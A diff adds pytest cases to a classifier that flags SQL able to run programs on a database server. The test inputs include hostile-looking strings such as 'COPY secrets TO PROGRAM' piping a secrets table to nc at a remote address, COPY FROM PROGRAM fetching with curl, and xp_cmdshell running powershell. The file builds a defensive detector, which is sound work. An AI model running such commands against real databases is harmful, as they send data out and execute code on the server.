@@ -58,3 +58,27 @@ def test_huge_input_is_bounded():
     text = "SELECT 1;" * 100_000 + "DROP TABLE t"
     assert sql.effects(text) == set()  # past the bound: not read
     assert len(sql.statements("SELECT 1;" * 1000)) == sql.MAX_STATEMENTS
+
+
+# --- SQL that runs a program on the database server (quality2) ------------------------------
+
+@pytest.mark.parametrize("text", [
+    "COPY secrets TO PROGRAM 'nc 203.0.113.5 9000'",
+    "copy (select * from orders) to program 'gzip > /var/tmp/o.gz'",
+    "COPY t FROM PROGRAM 'curl -s https://x.example/rows.csv' WITH (FORMAT csv)",
+    "EXEC xp_cmdshell 'powershell -c whoami'",
+    "EXEC master..xp_cmdshell 'dir'",
+    "SELECT sys_exec('touch /tmp/x')",
+])
+def test_programs_run_by_the_server(text):
+    assert "db.program" in sql.effects(text)
+
+
+@pytest.mark.parametrize("text", [
+    "COPY orders TO STDOUT WITH CSV HEADER",
+    "COPY orders FROM '/tmp/orders.csv' CSV",
+    "SELECT program, credits FROM courses",
+    "SELECT * FROM logs WHERE message LIKE '%xp_cmdshell%'",
+])
+def test_copies_and_lookalikes_run_nothing(text):
+    assert "db.program" not in sql.effects(text)
